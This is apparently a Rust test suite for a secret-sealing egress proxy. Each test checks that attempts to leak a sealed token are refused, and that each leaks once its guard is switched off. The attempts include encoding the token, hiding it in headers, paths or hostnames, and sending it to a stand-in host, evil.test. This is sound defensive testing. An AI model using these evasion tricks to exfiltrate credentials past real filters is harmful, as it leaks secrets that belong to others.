//! Requests that would take a sealed value, or its placeholder, where it does not belong.

use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use http::Request;

use super::world::{Guest, Pieces, World, is_spilled, request};
use crate::error::egress::EgressError;
use crate::guards::Guard;
use crate::request::placeholder::Placeholder;

type Ask = fn(&Guest) -> Request<Pieces>;

fn get(guest: &Guest, path: &str, fields: &[(&str, &str)]) -> Request<Pieces> {
    request("GET", &guest.url(path), fields, "")
}

fn field(guest: &Guest, name: &str, value: &str) -> Request<Pieces> {
    get(guest, "/v1", &[(name, value)])
}

fn authorization(guest: &Guest, value: impl AsRef<str>) -> Request<Pieces> {
    field(guest, "authorization", value.as_ref())
}

fn post(guest: &Guest, kind: &str, body: impl AsRef<str>) -> Request<Pieces> {
    request("POST", &guest.url("/v1"), &[("content-type", kind)], body.as_ref())
}

fn json(guest: &Guest, body: impl AsRef<str>) -> Request<Pieces> {
    post(guest, "application/json", body)
}

fn form(guest: &Guest, body: impl AsRef<str>) -> Request<Pieces> {
    post(guest, "application/x-www-form-urlencoded", body)
}

fn cut(guest: &Guest, body: impl AsRef<str>, cut: usize) -> Request<Pieces> {
    post(guest, "text/plain", "").map(|_| Pieces::of(body.as_ref(), cut))
}

fn bearer(guest: &Guest, host: &str, port: u16) -> Request<Pieces> {
    guest.bearer(&format!("http://{host}:{port}/v1"))
}

/// What is tried, the guard that is there for it, and the request.
const ATTEMPTS: &[(&str, Guard, Ask)] = &[
    ("another header", Guard::Placement, |guest| field(guest, "x-note", &guest.token)),
    ("User-Agent", Guard::Placement, |guest| field(guest, "user-agent", &guest.token)),
    ("Cookie", Guard::Placement, |guest| field(guest, "cookie", &guest.token)),
    ("Referer", Guard::Placement, |guest| field(guest, "referer", &guest.token)),
    ("X-Forwarded-For", Guard::Placement, |guest| field(guest, "x-forwarded-for", &guest.token)),
    ("Content-Type", Guard::Placement, |guest| field(guest, "content-type", &guest.token)),
    ("another secret's header", Guard::Placement, |guest| field(guest, "x-both", &guest.token)),
    ("another secret in a header", Guard::Placement, |guest| authorization(guest, format!("Bearer {}", guest.both))),
    ("a header's secret in the query", Guard::Placement, |guest| {
        get(guest, &format!("/?api_key={}", guest.token), &[])
    }),
    ("another parameter", Guard::Placement, |guest| get(guest, &format!("/?q={}", guest.key), &[])),
    ("a query's secret in a header", Guard::Placement, |guest| authorization(guest, &guest.key)),
    ("another field of a form", Guard::Placement, |guest| form(guest, format!("note={}", guest.field))),
    ("another member of JSON", Guard::Placement, |guest| json(guest, format!("{{\"note\": \"{}\"}}", guest.field))),
    ("one cookie of several", Guard::Whole, |guest| field(guest, "cookie", &format!("a=b; s={}", guest.token))),
    ("a parameter of Content-Type", Guard::Whole, |guest| {
        post(guest, &format!("multipart/form-data; boundary={}", guest.token), "")
    }),
    ("text behind it", Guard::Whole, |guest| authorization(guest, format!("Bearer {}; x=y", guest.token))),
    ("text before it", Guard::Whole, |guest| authorization(guest, format!("x{}", guest.token))),
    ("two spaces", Guard::Whole, |guest| authorization(guest, format!("Bearer  {}", guest.token))),
    ("twice in a header", Guard::Whole, |guest| authorization(guest, format!("Bearer {0}, {0}", guest.token))),
    ("part of a parameter", Guard::Whole, |guest| get(guest, &format!("/?api_key=x{}", guest.key), &[])),
    ("the name of a parameter", Guard::Whole, |guest| get(guest, &format!("/?{}=1", guest.key), &[])),
    ("a query that is nothing else", Guard::Whole, |guest| get(guest, &format!("/?{}", guest.key), &[])),
    ("the path", Guard::Site, |guest| get(guest, &format!("/{}", guest.token), &[])),
    ("a percent-encoded path", Guard::Site, |guest| get(guest, &format!("/{}", guest.token.replace('_', "%5f")), &[])),
    ("the host, and so the name server", Guard::Site, |guest| {
        request("GET", &format!("http://{}.api.test:{}/", guest.token, guest.home), &[], "")
    }),
    ("the method", Guard::Site, |guest| request(&guest.token, &guest.url("/"), &[], "")),
    ("the name of a header", Guard::Site, |guest| field(guest, &guest.token, "x")),
    ("base64", Guard::Known, |guest| authorization(guest, format!("Bearer {}", STANDARD.encode(&guest.token)))),
    ("base64 one byte on", Guard::Known, |guest| authorization(guest, STANDARD.encode(format!("x{}", guest.token)))),
    ("base64 two bytes on", Guard::Known, |guest| authorization(guest, STANDARD.encode(format!("xy{}", guest.token)))),
    ("base64 of base64", Guard::Known, |guest| authorization(guest, STANDARD.encode(STANDARD.encode(&guest.token)))),
    ("user and password", Guard::Known, |guest| {
        authorization(guest, format!("Basic {}", STANDARD.encode(format!("{0}:{0}", guest.token))))
    }),
    ("part of a password", Guard::Known, |guest| {
        authorization(guest, format!("Basic {}", STANDARD.encode(format!("user:x{}", guest.token))))
    }),
    ("upper case", Guard::Known, |guest| authorization(guest, guest.token.to_uppercase())),
    ("hexadecimal", Guard::Known, |guest| {
        authorization(guest, guest.token.bytes().map(|byte| format!("{byte:02x}")).collect::<String>())
    }),
    ("reversed", Guard::Known, |guest| authorization(guest, guest.token.chars().rev().collect::<String>())),
    ("cut", Guard::Known, |guest| authorization(guest, &guest.token[..30])),
    ("one letter changed", Guard::Known, |guest| authorization(guest, format!("{}g", &guest.token[..41]))),
    ("split over two headers", Guard::Known, |guest| {
        get(guest, "/", &[("x-a", &guest.token[..21]), ("x-b", &guest.token[21..])])
    }),
    ("percent-encoded", Guard::Known, |guest| get(guest, &format!("/?api_key={}", guest.key.replace('u', "%75")), &[])),
    ("another run's", Guard::Known, |guest| authorization(guest, Placeholder::new().as_str())),
    ("another run's, in the query", Guard::Known, |guest| {
        get(guest, &format!("/?api_key={}", Placeholder::new()), &[])
    }),
    ("in two fields it is bound to", Guard::Once, |guest| {
        get(guest, &format!("/?api_key={}", guest.both), &[("x-both", &guest.both)])
    }),
    ("two headers of a name", Guard::Once, |guest| {
        get(guest, "/", &[("authorization", &guest.token), ("authorization", &guest.token)])
    }),
    ("a parameter that is there twice", Guard::Once, |guest| {
        get(guest, &format!("/?api_key={}&api%5fkey=x", guest.key), &[])
    }),
    ("a member that is there twice", Guard::Once, |guest| {
        json(guest, format!("{{\"token\": \"{}\", \"t\\u006fken\": 1}}", guest.field))
    }),
    ("a field of a form that is there twice", Guard::Once, |guest| {
        form(guest, format!("token={0}&token={0}", guest.field))
    }),
    ("another host", Guard::Bound, |guest| bearer(guest, "evil.test", guest.away)),
    ("another host on the same port", Guard::Bound, |guest| bearer(guest, "evil.test", guest.home)),
    ("a host that begins as the bound one", Guard::Bound, |guest| bearer(guest, "api.test.evil.test", guest.away)),
    ("a host below", Guard::Bound, |guest| bearer(guest, "x.api.test", guest.home)),
    ("the same address under another name", Guard::Bound, |guest| bearer(guest, "example.test", guest.home)),
    ("another port", Guard::Bound, |guest| bearer(guest, "api.test", guest.away)),
    ("no encryption", Guard::Bound, |guest| field(guest, "x-secure", &guest.secure)),
    ("a query's secret to another host", Guard::Bound, |guest| {
        request("GET", &format!("http://evil.test:{}/?api_key={}", guest.away, guest.key), &[], "")
    }),
    ("another method", Guard::Bound, |guest| field(guest, "x-narrow", &guest.narrow)),
    ("a method in lower case", Guard::Bound, |guest| {
        request("post", &guest.url("/v1"), &[("x-narrow", &guest.narrow)], "")
    }),
    ("another path", Guard::Bound, |guest| request("POST", &guest.url("/v10/x"), &[("x-narrow", &guest.narrow)], "")),
    ("a path with dots", Guard::Bound, |guest| {
        request("POST", &guest.url("/v1/%2e%2e/admin"), &[("x-narrow", &guest.narrow)], "")
    }),
    ("TRACK", Guard::Method, |guest| request("TRACK", &guest.url("/"), &[("authorization", &guest.token)], "")),
    ("Range", Guard::Range, |guest| get(guest, "/", &[("authorization", &guest.token), ("range", "bytes=10-12")])),
    ("If-Range", Guard::Range, |guest| get(guest, "/", &[("authorization", &guest.token), ("if-range", "\"x\"")])),
    ("Request-Range", Guard::Range, |guest| {
        get(guest, "/", &[("authorization", &guest.token), ("request-range", "bytes=10-12")])
    }),
    ("a body", Guard::Body, |guest| cut(guest, format!("note: {}", guest.token), 1000)),
    ("a body in upper case", Guard::Body, |guest| cut(guest, guest.token.to_uppercase(), 1000)),
    ("a body in base64", Guard::Body, |guest| cut(guest, STANDARD.encode(format!("x{}", guest.token)), 1000)),
    ("a body with percent signs", Guard::Body, |guest| cut(guest, guest.token.replace('m', "%256d"), 5)),
    ("a body of another run's", Guard::Body, |guest| cut(guest, Placeholder::new().as_str(), 1000)),
    ("a body to another host", Guard::Body, |guest| {
        request("POST", &format!("http://evil.test:{}/", guest.away), &[], &guest.token)
    }),
    ("a part of a multipart body", Guard::Body, |guest| {
        let part = format!("--b\r\nContent-Disposition: form-data; name=\"token\"\r\n\r\n{}\r\n--b--\r\n", guest.field);
        post(guest, "multipart/form-data; boundary=b", part)
    }),
    ("another member besides", Guard::Body, |guest| {
        json(guest, format!("{{\"token\": \"{0}\", \"note\": [\"{0}\"]}}", guest.field))
    }),
    ("a member inside", Guard::Body, |guest| json(guest, format!("{{\"a\": {{\"token\": \"{}\"}}}}", guest.field))),
    ("part of a member", Guard::Body, |guest| json(guest, format!("{{\"token\": \"x{}\"}}", guest.field))),
    ("the name of a member", Guard::Body, |guest| json(guest, format!("{{\"{}\": \"token\"}}", guest.field))),
    ("an escaped member", Guard::Body, |guest| json(guest, format!("{{\"token\": \"\\u0075{}\"}}", &guest.field[1..]))),
    ("broken JSON", Guard::Body, |guest| json(guest, format!("{{\"token\": \"{}\"", guest.field))),
    ("a header's secret in a body with fields", Guard::Body, |guest| {
        json(guest, format!("{{\"token\": \"{}\"}}", guest.token))
    }),
    ("a body cut in the middle", Guard::Held, |guest| cut(guest, format!("note: {}", guest.token), 9)),
    ("a body cut to bytes", Guard::Held, |guest| cut(guest, format!("note: {}", STANDARD.encode(&guest.token)), 1)),
];

#[tokio::test]
async fn no_request_takes_a_sealed_value_where_it_does_not_belong_but_without_its_guard() {
    let world = World::new().await;
    for (what, guard, ask) in ATTEMPTS {
        let guest = world.guest(None).await;
        let refused = guest.send(ask(&guest)).await;
        assert!(matches!(refused, Err(EgressError::Sealed { .. })), "{what}: {refused:?}");
        let reached = world.take();
        assert!(!is_spilled(&reached), "{what} reached:\n{reached}");
        let guest = world.guest(Some(*guard)).await;
        let sent = guest.send(ask(&guest)).await;
        let reached = world.take();
        assert!(sent.is_ok() && is_spilled(&reached), "{what}, without {guard:?}: {sent:?}\n{reached}");
    }
}

/// These have no guard of their own to switch off: there is no way to send them at all.
#[tokio::test]
async fn what_the_client_sends_for_nobody_it_does_not_send_with_a_placeholder() {
    let world = World::new().await;
    let asks: [(&str, Ask); 4] = [
        ("TRACE", |guest| request("TRACE", &guest.url("/"), &[("authorization", &guest.token)], "")),
        ("CONNECT", |guest| request("CONNECT", &guest.url("/"), &[("authorization", &guest.token)], "")),
        ("the user in the url", |guest| {
            request("GET", &format!("http://{}@api.test:{}/", guest.token, guest.home), &[], "")
        }),
        ("Host", |guest| field(guest, "host", &guest.token)),
    ];
    for (what, ask) in asks {
        for guard in [None, Some(Guard::Site), Some(Guard::Method), Some(Guard::Placement)] {
            let guest = world.guest(guard).await;
            let _ = guest.send(ask(&guest)).await;
            let reached = world.take();
            assert!(!is_spilled(&reached), "{what}, without {guard:?}, reached:\n{reached}");
        }
    }
    let guest = world.guest(None).await;
    let trailers = |text: &str| Some([("x-note".parse().unwrap(), text.parse().unwrap())].into_iter().collect());
    let with_trailers = cut(&guest, "text", 9).map(|body| Pieces { trailers: trailers(&guest.token), ..body });
    guest.send(with_trailers).await.unwrap();
    let reached = world.take();
    assert!(!is_spilled(&reached) && reached.contains("text"), "{reached}");
}

#[tokio::test]
async fn what_does_belong_goes_out() {
    let world = World::new().await;
    let guest = world.guest(None).await;
    let basic = |pair: String| format!("Basic {}", STANDARD.encode(pair));
    let token = super::world::TOKEN;
    for (request, due) in [
        (authorization(&guest, &guest.token), format!("authorization: {token}\r\n")),
        (authorization(&guest, format!("Bearer {}", guest.token)), format!("authorization: Bearer {token}\r\n")),
        (
            authorization(&guest, basic(format!("me:{}", guest.token))),
            format!("authorization: {}\r\n", basic(format!("me:{token}"))),
        ),
        (
            get(&guest, &format!("/?a=1&api_key={}&b", guest.key), &[]),
            "GET /?a=1&api_key=key-16C7e42F292c_6912.7710c8&b ".to_owned(),
        ),
        (
            form(&guest, format!("a=+b&token={}&c", guest.field)),
            "\r\n\r\na=+b&token=field-16C7e42F292c_6912.7710c8&c".to_owned(),
        ),
        (
            json(&guest, format!("{{\"token\":\"{}\"}}", guest.field)),
            "{\"token\":\"field-16C7e42F292c_6912.7710c8\"}".to_owned(),
        ),
        (
            request("POST", &guest.url("/v1/a"), &[("x-narrow", &guest.narrow)], ""),
            "x-narrow: narrow_16C7e42F292c6912E7710c8\r\n".to_owned(),
        ),
        (cut(&guest, "any text, with um-sealed things", 4), "\r\n\r\nany text, with um-sealed things".to_owned()),
    ] {
        guest.send(request).await.unwrap();
        let reached = world.take();
        assert!(reached.contains(&due) && !reached.contains("um_sealed_"), "{reached}\nlacks {due}");
    }
}
